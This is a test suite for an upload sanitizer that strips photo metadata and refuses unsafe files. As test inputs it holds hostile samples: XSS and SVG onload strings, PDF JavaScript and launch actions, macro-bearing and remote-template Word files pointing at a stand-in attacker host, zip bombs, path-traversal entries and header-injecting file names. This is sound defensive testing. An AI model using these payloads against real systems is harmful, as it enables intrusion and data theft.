"""What is sent is known by what it contains, and leaves nothing behind but what it shows."""

import io
import os
import struct
import tempfile
import time
import tracemalloc
import zipfile
import zlib
from datetime import timedelta

import pytest
from PIL import Image

from consult.core import clock, files, papers, pictures
from consult.core.files import RefusedFileError, Size
from tests.enclosures import docx, odt, packed, pdf, picture, taken_at_home


def sent(content):
    """As a request brings it: in memory while it is small, on the disk where it is not."""
    stream = tempfile.SpooledTemporaryFile(max_size=500 * 1024)  # noqa: SIM115 - closed by whoever sends it
    stream.write(content)
    return stream


def kept(content, name="file"):
    with sent(content) as stream:
        return files.keep(stream, name)


def read(one, size=Size.LARGE):
    return files.path_of(one.token, size).read_bytes()


def refusal(content, name="file"):
    with pytest.raises(RefusedFileError) as refused:
        kept(content, name)
    return str(refused.value.sentence)


@pytest.fixture(autouse=True)
def within(app):
    with app.test_request_context("/?lingua=en"):
        yield


def uploads(app):
    return [path for path in (app.extensions["settings"].instance / "uploads").rglob("*") if path.is_file()]


# pictures


def test_a_photograph_loses_place_device_and_comment_and_stands_upright():
    before = taken_at_home()
    assert b"Telefono di Rosa" in before
    one = kept(before, "casa.jpg")
    for size in Size:
        content = read(one, size)
        with Image.open(io.BytesIO(content)) as image:
            assert (image.width, image.height) == (40, 80)
            assert not image.getexif()
            assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "progressive",
                                       "progression"}
        assert b"Rosa" not in content
        assert b"casa mia" not in content
        assert b"Exif" not in content


@pytest.mark.parametrize(("orientation", "corner"), [(1, (5, 5)), (3, (75, 35)), (6, (35, 5)), (8, (5, 75))])
def test_a_photograph_is_turned_as_the_camera_was_held(orientation, corner):
    with Image.open(io.BytesIO(read(kept(taken_at_home(orientation))))) as image:
        red, green, _blue = image.getpixel(corner)
    assert red > 200
    assert green < 60


@pytest.mark.parametrize(("format", "mimetype", "suffix"), [
    ("JPEG", "image/jpeg", ".jpg"), ("PNG", "image/png", ".png"), ("WEBP", "image/webp", ".webp")])
def test_each_kind_of_picture_is_kept_as_what_it_is_whatever_its_name(format, mimetype, suffix):
    one = kept(picture(format=format), "relazione.pdf")
    assert (one.mimetype, one.name, one.width, one.height) == (mimetype, "relazione" + suffix, 60, 40)
    assert one.size == len(read(one))


def test_large_pictures_are_made_smaller_twice():
    one = kept(picture(3000, 1500))
    assert (one.width, one.height, one.small_width, one.small_height) == (1920, 960, 640, 320)
    with Image.open(io.BytesIO(read(one, Size.SMALL))) as image:
        assert image.size == (640, 320)


def test_small_pictures_are_not_blown_up():
    one = kept(picture(10, 20, format="PNG"))
    assert (one.width, one.height, one.small_width, one.small_height) == (10, 20, 10, 20)


@pytest.mark.parametrize(("format", "mode", "options"), [
    ("PNG", "P", {"transparency": 0}), ("PNG", "LA", {}), ("PNG", "RGB", {"transparency": (0, 0, 0)}),
    ("WEBP", "RGBA", {})])
def test_what_one_sees_through_is_kept(format, mode, options):
    with Image.open(io.BytesIO(read(kept(picture(format=format, mode=mode, **options))))) as image:
        assert image.convert("RGBA").getpixel((50, 30))[3] == 0


def test_colours_for_the_press_become_those_of_screens():
    with Image.open(io.BytesIO(read(kept(picture(mode="CMYK"))))) as image:
        assert image.mode == "RGB"


def test_what_is_hidden_behind_a_picture_is_gone():
    one = kept(picture() + docx({"word/vbaProject.bin": b"macro"}) + b"<script>alert(1)</script>")
    assert not zipfile.is_zipfile(io.BytesIO(read(one)))
    assert b"<script>" not in read(one)


def test_text_hidden_in_a_drawing_is_gone():
    chunk = b"tEXt" + b"Comment\0<script>alert(1)</script>"
    plain = picture(format="PNG")
    marked = plain[:33] + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk)) + plain[33:]
    assert b"<script>" not in read(kept(marked))


def test_of_a_moving_picture_the_first_frame_is_kept():
    target = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(target, "WEBP", save_all=True, append_images=frames[1:])
    with Image.open(io.BytesIO(read(kept(target.getvalue())))) as image:
        assert getattr(image, "n_frames", 1) == 1
        assert image.convert("RGB").getpixel((10, 10))[0] > 200


def test_a_drawing_that_would_be_heavy_is_written_with_loss(monkeypatch):
    monkeypatch.setattr(pictures, "MOST_BYTES", 100)
    one = kept(picture(format="PNG"))
    assert (one.mimetype, one.name) == ("image/webp", "file.webp")


def claims(width, height):
    """A drawing of a few bytes that says it is this large."""
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    dots = chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + dots + chunk(b"IEND", b"")


@pytest.mark.parametrize("sides", [(7500, 7500), (10_000, 10_000), (60_000, 60_000), (2**31 - 1, 2**31 - 1)])
def test_huge_numbers_of_pixels_are_refused_before_they_are_read(sides):
    tracemalloc.start()
    try:
        assert "Make the picture smaller" in refusal(claims(*sides), "mappa.png")
        assert tracemalloc.get_traced_memory()[1] < 3 * 1024 * 1024
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("content", [
    picture()[:200], b"\xff\xd8\xff\xe0" + b"A" * 500, claims(10, 10)[:40], picture(format="WEBP")[:25],
    b"RIFF\x00\x00\x00\x00WEBPVP8 " + b"\0" * 40, claims(0, 0)])
def test_a_broken_picture_is_refused_with_what_to_do(content, app):
    assert refusal(content, "foto.jpg") == (
        "“foto.jpg” cannot be opened: it may be damaged. Save it once more and send it again.")
    assert uploads(app) == []


# documents


@pytest.mark.parametrize(("content", "mimetype", "suffix"), [
    (pdf(), papers.PDF, ".pdf"), (odt(), papers.ODT, ".odt"), (docx(), papers.DOCX, ".docx")])
def test_documents_are_passed_on_byte_for_byte(content, mimetype, suffix):
    one = kept(content, "relazione.png")
    assert (one.mimetype, one.name, one.size, one.width) == (mimetype, "relazione" + suffix, len(content), None)
    assert read(one) == content


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize(("content", "name"), [
    (SVG, "foto.png"), (b'<?xml version="1.0"?>' + SVG, "foto.svg"), (b"<html><script>alert(1)</script>", "nota.pdf"),
    (b"<!doctype html><p>x", "x.html"), (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "x.gif"),
    (b"MZ\x90\x00" + b"\0" * 80, "x.docx"),
    (b"\x7fELF" + b"\0" * 60, "x"), (b"#!/bin/sh\n", "x.png"), (b"just words", "x.txt"), (b"\0" * 50, "x.jpg"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "vecchio.doc"), (b"{\\rtf1}", "x.rtf"),
    (packed({"a.txt": b"x"}), "x.docx"), (packed({"mimetype": b"application/epub+zip", "content.xml": b""}), "x.odt"),
    (packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b""}), "x.odt"),
    (packed({"[Content_Types].xml": b"spreadsheetml", "word/document.xml": b""}), "x.docx")])
def test_anything_else_is_refused_by_what_it_is_and_told_what_can_be_sent(content, name, app):
    assert "Send a picture (JPEG, PNG, WebP) or a document (PDF, ODT, DOCX)." in refusal(content, name)
    assert uploads(app) == []


def test_an_empty_file_is_refused():
    assert refusal(b"", "vuoto.pdf") == "“vuoto.pdf” is empty. Choose another file."


PACKED_OBJECTS = zlib.compress(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")


TEMPLATE_ELSEWHERE = (b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
                      b'TargetMode="External"/>')


@pytest.mark.parametrize("content", [
    pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), pdf(b"<</S/#4aava#53cript/J#53(1)>>"),
    pdf(b"<</S/Launch/F(calc.exe)>>"),
    pdf(b"<</Type/EmbeddedFile>>"), pdf(b"<</XFA [1 0 R]>>"), pdf(b"<</Subtype/RichMedia>>"),
    pdf(b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(PACKED_OBJECTS), PACKED_OBJECTS)),
    docx({"word/vbaProject.bin": b"x"}), docx({"word/vbaData.xml": b"x"}), docx({"word/activeX/activeX1.xml": b"x"}),
    docx({"word/embeddings/oleObject1.bin": b"x"}), docx({"word/embeddings/x.exe": b"x"}),
    docx({"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
    docx({"word/_rels/settings.xml.rels": TEMPLATE_ELSEWHERE}),
    docx({"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document/>'}),
    odt({"Basic/Standard/Module1.xml": b"x"}), odt({"Scripts/python/x.py": b"x"}),
    odt({"content.xml": b"<x>" + b" " * 300_000 + b"<script:event-listener/></x>"})])
def test_documents_with_programs_are_refused(content, app):
    assert "contains macros, programs or other files" in refusal(content, "piano.pdf")
    assert uploads(app) == []


@pytest.mark.parametrize("content", [
    pdf(tail=docx()), pdf(tail=b"<html><script>alert(1)</script></html>"), b"%PDF-1.4\n<html><script>alert(1)</script>",
    b"%PDF-1.4\n<html><script>alert(1)</script>\nstartxref\n0\n%%EOF", pdf()[:-8], docx(comment=b"<script>"),
    docx() + b"trailing <script>", b"PK\x03\x04" + b"\0" * 100, docx()[:-30], docx()[:200] + b"\0" * 40 + docx()[240:],
    docx({"../../etc/passwd": b"x"}), docx({"/etc/passwd": b"x"}), docx({"word\\..\\x": b"x"}), docx({"C:x": b"x"})])
def test_what_is_two_things_at_once_or_broken_is_refused(content, app):
    said = refusal(content, "piano.pdf")
    assert "cannot be opened" in said or "contains macros, programs or other files" in said
    assert uploads(app) == []


def test_what_stands_before_an_archive_makes_it_no_document():
    with pytest.raises(RefusedFileError):
        kept(b"PK\x03\x04<script>" + docx(), "x.docx")


def test_a_bomb_of_zeros_is_refused_without_being_unpacked():
    bomb = docx({"word/media/image1.png": b"\0" * (160 * 1024 * 1024)})
    assert len(bomb) < 500_000
    begun = time.process_time()
    assert "unpacks to much more" in refusal(bomb, "piano.docx")
    assert time.process_time() - begun < 0.5


def test_a_bomb_that_lies_about_its_size_is_refused():
    bomb = bytearray(docx({"word/media/image1.png": b"\0" * 30_000_000}))
    entry = bomb.rindex(b"PK\x01\x02")
    bomb[entry + 24:entry + 28] = struct.pack("<I", 1000)
    refusal(bytes(bomb), "piano.docx")


def test_many_entries_are_refused():
    assert "unpacks to much more" in refusal(docx({f"word/{n}.xml": b"" for n in range(2100)}))


def test_a_document_with_many_plain_pages_is_taken():
    text = b"<w:p>" + os.urandom(2000).hex().encode() * 400
    assert kept(docx({"word/document.xml": text})).mimetype == papers.DOCX


def test_packed_objects_without_end_are_refused():
    stream = zlib.compress(b"\0" * (80 * 1024 * 1024))
    content = pdf(b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\n%s\nendstream" % stream)
    assert "unpacks to much more" in refusal(content)


def test_twenty_megabytes_are_checked_without_being_held_in_memory():
    noise = os.urandom(19 * 1024 * 1024).replace(b"%%EOF", b"xxxxx")
    content = pdf(b"<</Length %d>>\nstream\n%s\nendstream" % (len(noise), noise))
    with sent(content) as stream:
        tracemalloc.start()
        try:
            assert files.keep(stream, "grande.pdf").size == len(content)
            assert tracemalloc.get_traced_memory()[1] < 6 * 1024 * 1024
        finally:
            tracemalloc.stop()


def test_what_is_larger_than_the_setting_is_refused(app):
    content = pdf(b"(" + b"x" * (21 * 1024 * 1024) + b")")
    assert refusal(content, "grande.pdf") == "“grande.pdf” is too large: at most 20 MB."


# names


@pytest.mark.parametrize(("sent_as", "shown"), [
    ("../../etc/passwd", "passwd.pdf"), ("..\\..\\boot.ini", "boot.pdf"), ("a/b/c.PDF", "c.pdf"), ("", "allegato.pdf"),
    ("...", "allegato.pdf"), ("x\0.php", "x.pdf"), ("x.pdf\0.exe", "x.pdf.pdf"),
    ("a\r\nSet-Cookie: b.pdf", "a Set-Cookie b.pdf"),
    ("rela\u202efdp.exe", "relafdp.pdf"), ("\u200f\u2066x\u2069.pdf", "x.pdf"), ('"><img src=x>.pdf', "img src=x.pdf"),
    ("Città è più\u00a0bella.odt", "Città è più bella.pdf"), ("x" * 400 + ".pdf", "x" * 80 + ".pdf"),
    ("%2e%2e%2f", "2e2e2f.pdf"),
    ("\ud800x.pdf", "x.pdf"), ("a\tb.pdf", "a b.pdf"), (".htaccess", "htaccess.pdf")])
def test_names_are_readable_and_lead_nowhere(sent_as, shown):
    assert files.shown_name(sent_as, ".pdf") == shown


def test_files_are_kept_under_names_that_nobody_can_guess_for_nobody_else_to_read(app):
    one = kept(picture(), "../../../x.jpg")
    found = uploads(app)
    assert sorted(path.name for path in found) == [one.token, f"{one.token}-small"]
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in found)
    assert all(path.parent.stat().st_mode & 0o777 == 0o700 for path in found)
    files.remove(one.token)
    files.remove(one.token)
    assert uploads(app) == []


@pytest.mark.parametrize("token", ["../../secret_key", "", "a" * 31, "A" * 32, "a" * 32 + "\n", "a" * 33])
def test_only_names_of_ours_lead_to_a_file(token):
    with pytest.raises(ValueError, match="no such name"):
        files.path_of(token)


def test_the_names_of_what_is_kept_are_told_by_age():
    one = kept(pdf())
    assert list(files.tokens(before=clock.now() - timedelta(hours=1))) == []
    assert list(files.tokens(before=clock.now() + timedelta(hours=1))) == [one.token]
